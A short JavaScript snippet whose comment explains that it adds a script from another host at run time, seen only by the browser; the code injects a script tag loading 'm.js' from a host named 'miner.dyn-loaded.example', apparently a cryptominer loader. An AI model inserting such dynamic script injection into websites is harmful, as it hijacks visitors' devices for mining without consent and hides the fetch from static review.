// Adds a script from another host at run time: only a browser sees this request.
var s = document.createElement("script"); s.src = "http://miner.dyn-loaded.example/m.js"; document.head.appendChild(s);
